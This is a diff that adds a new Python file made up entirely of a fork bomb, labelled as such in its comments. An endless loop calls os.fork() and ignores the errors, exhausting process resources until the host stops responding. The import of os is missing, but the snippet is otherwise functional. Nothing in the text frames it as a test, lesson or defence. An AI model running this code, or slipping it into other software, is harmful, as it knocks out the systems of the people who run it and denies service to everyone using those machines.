@@ -1,0 +1,8 @@
+# a fork bomb
+# ends: processes
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
